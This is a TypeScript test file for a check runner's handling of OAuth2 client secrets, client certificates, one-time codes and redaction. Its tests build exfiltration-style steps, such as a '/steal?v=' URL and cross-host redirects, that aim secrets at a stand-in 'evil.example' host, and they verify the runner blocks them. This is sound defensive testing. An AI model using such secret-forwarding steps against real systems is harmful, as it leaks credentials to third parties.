/** Access tokens and client certificates: they are sent only where they are configured, and never revealed. */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { TLSSocket } from 'node:tls';
import test, { type ExecutionContext } from 'ava';
import { run, runHttp, serveHttp, serveSocket } from './targets.ts';

const clientSecret = 'cl1ent s3cret+/';
const token = 't0ken-of-the-run';

interface TokenRequest {
  readonly authorization: string | undefined;
  readonly form: URLSearchParams;
}

/** Returns the token for the correct secret. */
const serveTokens = async (
  t: ExecutionContext,
): Promise<{ readonly port: number; readonly requests: TokenRequest[] }> => {
  const requests: TokenRequest[] = [];
  const port = await serveHttp(t, async (request, response) => {
    let body = '';
    for await (const chunk of request) body += String(chunk);
    const form = new URLSearchParams(body);
    const { authorization } = request.headers;
    requests.push({ authorization, form });
    const pair =
      Buffer.from(authorization?.slice(6) ?? '', 'base64')
        .toString()
        .split(':')[1] ?? '';
    const input = form.get('client_secret') ?? decodeURIComponent(pair.replaceAll('+', ' '));
    const isRight = input === clientSecret;
    response.writeHead(isRight ? 200 : 401, { 'content-type': 'application/json' });
    const refusal = { error: 'invalid_client', error_description: `not ${input}` };
    response.end(JSON.stringify(isRight ? { access_token: token, token_type: 'Bearer', expires_in: 60 } : refusal));
  });
  return { port, requests };
};

const names = { 'shop.example': [['127.0.0.1']], 'login.example': [['127.0.0.1']], 'evil.example': [['127.0.0.1']] };
const secretOf = (value: string, hosts = ['login.example']) => ({ names, variables: { secret: { value, hosts } } });
const oauth2 = (port: number, more: object = {}) => ({
  type: 'oauth2',
  tokenUrl: `http://login.example:${port}/token`,
  clientId: 'ann',
  clientSecret: '{{variables.secret}}',
  scope: 'read write',
  ...more,
});

test('a step gets an access token once, in a separate step, and sends it', async (t) => {
  const tokens = await serveTokens(t);
  const brought: (string | undefined)[] = [];
  const port = await serveHttp(t, ({ headers }, response) => {
    brought.push(headers.authorization);
    response.end('ok');
  });
  const url = `http://shop.example:${port}/`;
  for (const sentIn of ['header', 'body']) {
    const authentication = oauth2(tokens.port, { sentIn, audience: 'shop' });
    const steps = [
      { url, authentication },
      { url, authentication },
    ];
    const seen = await runHttp(steps, secretOf(clientSecret));
    t.is(seen.outcome, 'passed', seen.message);
    t.deepEqual(
      seen.steps.map(({ name }) => name),
      ['access token', '', ''],
    );
    const sum = Object.values(seen.phases).reduce((whole, ms) => whole + ms, 0);
    t.true(Math.abs(sum - seen.durationMs) < 0.01);
  }
  t.deepEqual(brought, Array(4).fill(`Bearer ${token}`));
  const [header, body, ...more] = tokens.requests;
  t.is(more.length, 0);
  t.deepEqual(Object.fromEntries(header?.form ?? []), {
    grant_type: 'client_credentials',
    scope: 'read write',
    audience: 'shop',
  });
  t.is(header?.authorization, `Basic ${Buffer.from('ann:cl1ent+s3cret%2B%2F').toString('base64')}`);
  t.is(body?.authorization, undefined);
  t.is(body?.form.get('client_id'), 'ann');
});

test('a failed token request is the reason for the failed run, and neither secret nor token is revealed', async (t) => {
  const tokens = await serveTokens(t);
  const port = await serveHttp(t, ({ headers }, response) => response.writeHead(500).end(headers.authorization));
  const url = `http://shop.example:${port}/`;
  const refused = await runHttp([{ url, authentication: oauth2(tokens.port) }], secretOf('wr0ng s3cret'));
  t.is(refused.outcome, 'failed');
  t.regex(refused.message, /login\.example:\d+ returned no access token: invalid_client, not \*{8} \(status 401\)/);
  t.is(refused.steps.length, 1);
  const failing = await runHttp([{ url, authentication: oauth2(tokens.port) }], secretOf(clientSecret));
  t.is(failing.outcome, 'failed');
  for (const output of [JSON.stringify(refused), JSON.stringify(failing)])
    for (const secret of [token, clientSecret, 'wr0ng', 'cl1ent+s3cret%2B%2F'])
      t.false(output.includes(secret), output);
});

test('a client secret is sent only to the token endpoint, and the token only to its step', async (t) => {
  const tokens = await serveTokens(t);
  const brought: (string | undefined)[] = [];
  const evil = await serveHttp(t, ({ headers }, response) => {
    brought.push(headers.authorization);
    response.end('ok');
  });
  const port = await serveHttp(t, (_, response) => {
    response.writeHead(302, { location: `http://evil.example:${evil}/` }).end();
  });
  const url = `http://shop.example:${port}/`;
  const followed = await runHttp([{ url, authentication: oauth2(tokens.port) }], secretOf(clientSecret));
  t.is(followed.outcome, 'passed', followed.message);
  t.deepEqual(brought, [undefined]);
  const bound = secretOf(clientSecret, ['shop.example']);
  const refused = await runHttp([{ url, authentication: oauth2(tokens.port) }], bound);
  t.is(refused.outcome, 'failed');
  t.regex(refused.message, /a secret of the check is not bound to login\.example/);
  t.is(tokens.requests.length, 1);
  const inner = { ...secretOf(clientSecret), allowed: [] };
  t.is((await runHttp([{ url, authentication: oauth2(tokens.port) }], inner)).outcome, 'unknown');
});

test('a client certificate is presented to the server of its step, but not to a redirect target', async (t) => {
  const directory = mkdtempSync(join(tmpdir(), 'oiq-certificate-'));
  t.teardown(() => rmSync(directory, { recursive: true, force: true }));
  const make = (name: string) => {
    const files = ['-keyout', `${name}.key`, '-out', `${name}.pem`, '-subj', `/CN=${name}`];
    const created = ['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:P-256', '-nodes', '-days', '9'];
    execFileSync('openssl', [...created, ...files], { cwd: directory, stdio: 'ignore' });
    return {
      key: readFileSync(join(directory, `${name}.key`), 'utf8'),
      cert: readFileSync(join(directory, `${name}.pem`), 'utf8'),
    };
  };
  const client = make('probe');
  const seen: (string | undefined)[] = [];
  const serve = async (location: string): Promise<number> => {
    const trusting = { ...make('shop.example'), ca: client.cert, requestCert: true, rejectUnauthorized: false };
    const server = createServer(trusting, (request, response) => {
      seen.push(String((request.socket as TLSSocket).getPeerCertificate().subject?.CN));
      response.writeHead(location === '' ? 200 : 302, location === '' ? {} : { location }).end('ok');
    });
    await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready));
    t.teardown(() => void server.close());
    return (server.address() as AddressInfo).port;
  };
  const other = await serve('');
  const port = await serve(`https://evil.example:${other}/`);
  const url = `https://shop.example:${port}/`;
  const clientCertificate = { certificate: client.cert, key: '{{variables.key}}' };
  const step = { url, verifyCertificate: false, clientCertificate };
  const keyFor = (hosts: string[]) => ({ names, variables: { key: { value: client.key, hosts } } });
  const followed = await runHttp([step], keyFor(['shop.example']));
  t.is(followed.outcome, 'passed', followed.message);
  t.deepEqual(seen, ['probe', 'undefined']);
  const refused = await runHttp([step], keyFor(['other.example']));
  t.regex(refused.message, /not bound to shop\.example/);
  t.is(seen.length, 2);
  const broken = await runHttp([step], { names, variables: { key: { value: 'no key', hosts: ['shop.example'] } } });
  t.is(broken.outcome, 'failed');
});

const stolen = `s3cr3t'Val(ue)*-K9vBn4mQw8rT2y`;
const boundHere = { names, variables: { key: { value: stolen, hosts: ['shop.example'] } } };

/** Echoes requests, and collects those that arrive at the other host. */
const serveEcho = async (t: ExecutionContext): Promise<{ readonly port: number; readonly arrived: string[] }> => {
  const arrived: string[] = [];
  const port = await serveHttp(t, async (request, response) => {
    let body = '';
    for await (const chunk of request) body += String(chunk);
    const { host = '' } = request.headers;
    if (host.startsWith('evil')) arrived.push(`${request.url} ${JSON.stringify(request.headers)} ${body}`);
    const key = String(request.headers['x-key'] ?? '');
    response.setHeader('x-echo', key);
    response.setHeader('x-base64', Buffer.from(`a:${key}`).toString('base64'));
    const to = new URL(request.url ?? '', 'http://x').searchParams.get('to');
    if (to !== null) return void response.writeHead(302, { location: to }).end();
    response.end(JSON.stringify({ key, nested: JSON.stringify({ key }), text: `key=${key};` }));
  });
  return { port, arrived };
};

test('a secret that a step extracts from a response goes to its hosts only', async (t) => {
  const { port, arrived } = await serveEcho(t);
  const first = { url: `http://shop.example:${port}/`, headers: { 'x-key': '{{variables.key}}' } };
  const extracts = {
    header: { source: 'header', path: 'x-echo' },
    'base64 of more': { source: 'header', path: 'x-base64' },
    json: { source: 'json', path: '$.key' },
    'json in json': { source: 'json', path: '$.nested' },
    expression: { source: 'body', path: 'key=(.*?);' },
  };
  const evil = `http://evil.example:${port}`;
  const sent: Readonly<Record<string, object>> = {
    url: { url: `${evil}/steal?v={{values.x}}` },
    path: { url: `${evil}/{{values.x}}/end` },
    header: { url: evil, headers: { 'x-v': 'a {{values.x}}' } },
    body: { url: evil, method: 'POST', body: '{"v":"{{values.x}}"}' },
    basic: { url: evil, authentication: { type: 'basic', user: 'u', password: '{{values.x}}' } },
    bearer: { url: evil, authentication: { type: 'bearer', token: '{{values.x}}' } },
    redirect: { url: `http://shop.example:${port}/?to=${encodeURIComponent(`${evil}/`)}{{values.x}}` },
  };
  for (const [from, extract] of Object.entries(extracts)) {
    const start = { ...first, extract: [{ as: 'x', ...extract }] };
    for (const [to, step] of Object.entries(sent)) {
      const result = await runHttp([start, step], boundHere);
      t.is(result.outcome, 'failed', `${from} to ${to}`);
      t.regex(result.message, /not bound to evil\.example/, `${from} to ${to}`);
    }
    const own = await runHttp([start, { ...first, method: 'POST', body: '{{values.x}}' }], boundHere);
    t.is(own.outcome, 'passed', own.message);
  }
  t.deepEqual(arrived, []);
});

test('a secret in an address does not follow a redirect to another host', async (t) => {
  const { port, arrived } = await serveEcho(t);
  for (const to of [`http://evil.example:${port}/`, `//evil.example:${port}/?k=`]) {
    const url = `http://shop.example:${port}/?to=${encodeURIComponent(to)}{{variables.key}}`;
    t.regex((await runHttp([{ url }], boundHere)).message, /not bound to evil\.example/);
  }
  t.deepEqual(arrived, []);
});

test('a part of a secret is not extracted, because it would not be recognized as one', async (t) => {
  const { port } = await serveEcho(t);
  for (const path of ['key=(.{10})', 'Val.ue..(.{6})', 'key=(.)', 'rT2(y)'])
    for (const value of [stolen, 'abcdEFGHk9rT2y'].filter((one) => new RegExp(path).test(`key=${one};`))) {
      const result = await runHttp(
        [
          {
            url: `http://shop.example:${port}/`,
            headers: { 'x-key': '{{variables.key}}' },
            extract: [{ as: 'part', source: 'body', path }],
          },
        ],
        { names, variables: { key: { value, hosts: ['shop.example'] } } },
      );
      t.regex(result.message, /^part would be a part of a secret/, path);
    }
});

test('short secrets are recognized in extracted values only: other texts contain them by chance', async (t) => {
  const { port, arrived } = await serveEcho(t);
  const user = { names, variables: { key: { value: 'admin', hosts: ['shop.example'] } } };
  const first = {
    url: `http://shop.example:${port}/`,
    headers: { 'x-key': '{{variables.key}}' },
    extract: [{ as: 'x', source: 'json', path: '$.key' }],
  };
  const plain = await runHttp([first, { url: `http://evil.example:${port}/admin` }], user);
  t.is(plain.outcome, 'passed', plain.message);
  const taken = await runHttp([first, { url: `http://evil.example:${port}/{{values.x}}` }], user);
  t.regex(taken.message, /not bound to evil\.example/);
  t.is(arrived.length, 1);
});

test('the name of a step does not show a secret', async (t) => {
  const { port } = await serveEcho(t);
  const result = await runHttp([{ name: 'with {{variables.key}}', url: `http://shop.example:${port}/` }], boundHere);
  t.is(result.outcome, 'passed', result.message);
  t.false(JSON.stringify(result).includes('K9vBn4mQw8'));
});

const seed = 'JBSWY3DPEHPK3PXP';
const bySeed = { names, variables: { key: { value: seed, hosts: ['shop.example'] } } };

test('a one-time code is redacted wherever a step sends it and a response shows it', async (t) => {
  const sent: Readonly<Record<string, object>> = {
    address: { url: '?otp={{code.key}}' },
    header: { headers: { 'x-otp': 'code {{code.key}}' } },
    form: {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: 'user=ann&otp={{code.key}}',
    },
    json: { method: 'POST', body: '{"otp": "{{code.key}}"}' },
    basic: { authentication: { type: 'basic', user: 'ann', password: '{{code.key}}' } },
    bearer: { authentication: { type: 'bearer', token: '{{code.key}}' } },
  };
  for (const [place, step] of Object.entries(sent)) {
    let code = '';
    const port = await serveHttp(t, async (request, response) => {
      let body = '';
      for await (const chunk of request) body += String(chunk);
      const { authorization = '', 'x-otp': header = '' } = request.headers;
      const pair = Buffer.from(authorization.slice(6), 'base64').toString();
      [code = ''] = /(?<!\d)\d{6}(?!\d)/.exec(`${request.url} ${body} ${header} ${authorization} ${pair}`) ?? [];
      response
        .writeHead(500, { 'x-echo': code })
        .end(`wrong code ${code}, ${Buffer.from(code).toString('hex')} ${authorization}`);
    });
    const { url = '', ...rest } = step as { readonly url?: string };
    const assertions = [{ source: 'header', name: 'x-echo', operator: 'absent' }];
    const result = await runHttp([{ url: `http://shop.example:${port}/${url}`, assertions, ...rest }], bySeed);
    t.regex(code, /^\d{6}$/, place);
    const output = JSON.stringify(result);
    t.regex(output, /wrong code \*{8}/, place);
    for (const form of [
      code,
      Buffer.from(code).toString('hex'),
      Buffer.from(`ann:${code}`).toString('base64').slice(6),
    ])
      t.false(output.includes(form), `${place}: ${output}`);
  }
});

test('a one-time code in a message of a socket is redacted', async (t) => {
  const port = await serveSocket(t, (socket) => socket.on('data', (data) => socket.end(`refused ${data}`)));
  const assertions = [{ source: 'body', operator: 'is', value: 'accepted' }];
  const settings = { type: 'tcp', tcp: { host: 'shop.example', port, send: 'code={{code.key}}', assertions } };
  const { message } = await run(settings, bySeed);
  t.regex(message, /refused code=\*{8}/);
});

test('a one-time code that a response repeats goes to the hosts of its secret only', async (t) => {
  const { port, arrived } = await serveEcho(t);
  const first = {
    url: `http://shop.example:${port}/`,
    headers: { 'x-key': '{{code.key}}' },
    extract: [{ as: 'x', source: 'json', path: '$.key' }],
  };
  const taken = await runHttp([first, { url: `http://evil.example:${port}/{{values.x}}` }], bySeed);
  t.regex(taken.message, /not bound to evil\.example/);
  t.is(arrived.length, 0);
});

test('an extracted value is redacted if its step declares it secret, or its name is that of a secret', async (t) => {
  const port = await serveHttp(t, ({ url = '' }, response) =>
    response.writeHead(url === '/' ? 200 : 500).end(url === '/' ? 'value=48 15-16.23;' : `wrong value ${url}`),
  );
  const address = `http://shop.example:${port}/`;
  const table: readonly (readonly [as: string, fields: object, isSecret: boolean])[] = [
    ...['otp', 'smsCode', 'mail_code', 'mfa', 'sessionToken', 'PIN', 'accessKey'].map((as) => [as, {}, true] as const),
    ...['order', 'statusCode', 'country_code', 'shopping'].map((as) => [as, {}, false] as const),
    ['order', { isSecret: true }, true],
    ['token', { isSecret: false }, false],
  ];
  for (const [as, fields, isSecret] of table) {
    const extract = [{ as, source: 'body', path: 'value=(.*?);', ...fields }];
    const { steps } = await runHttp([{ url: address, extract }, { url: `${address}{{values.${as}}}` }], { names });
    t.is(/15-16/.test(JSON.stringify(steps)), !isSecret, as);
  }
});
